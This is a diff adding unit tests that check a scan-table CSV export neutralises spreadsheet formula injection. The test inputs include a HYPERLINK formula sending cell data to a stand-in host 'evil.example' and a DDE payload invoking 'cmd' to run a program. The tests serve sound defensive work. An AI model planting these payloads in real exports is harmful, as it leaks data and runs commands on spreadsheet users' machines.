@@ -33,6 +33,38 @@ describe('the table of a scan', () => {
   });
 });
 
+describe('a cell of scan.csv', () => {
+  const csvOf = (value: string) =>
+    tableAsCsv(
+      scanTable([
+        point('1', { parameters: { tune: value } }, 1),
+        point('2', { parameters: { tune: 'B' } }, 2),
+      ]),
+    ).split('\r\n')[1];
+
+  it.each([
+    '=HYPERLINK("https://evil.example?"&A1)',
+    '+1+cmd|"/C calc"!A0',
+    '-2+3',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '＝1',
+    '-',
+  ])('holds %j as a text, no formula', (value) => {
+    expect(csvOf(value)).toMatch(/^1,"?'/);
+  });
+
+  it.each(['-5', '+5', '-1e-3', '.5', '-Infinity', '300.0', 'a=b', 'A'])(
+    'holds %s as it is',
+    (value) => {
+      expect(csvOf(value)).toBe(`1,${value},finished,1`);
+    },
+  );
+});
+
 describe('a scan.json from elsewhere', () => {
   it('is read as far as it is needed for comparison', () => {
     const [first] = [point('1', { parameters: { mass: '300' } }, 1.5)];
